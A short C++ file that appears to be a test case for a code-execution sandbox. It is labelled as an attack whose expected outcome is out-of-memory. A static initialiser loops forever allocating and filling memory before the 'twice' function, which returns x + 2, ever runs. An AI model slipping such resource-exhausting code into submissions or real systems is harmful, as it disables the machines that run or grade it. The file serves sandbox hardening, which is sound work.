// task: twice
// outcome: out_of_memory
// attack: the same in a static initialiser
#include <stdlib.h>
#include <string.h>
static int now = [] { for (;;) { void* p = malloc(1 << 24); if (p) memset(p, 1, 1 << 24); } return 1; }();
int twice(int x) { return x + 2; }
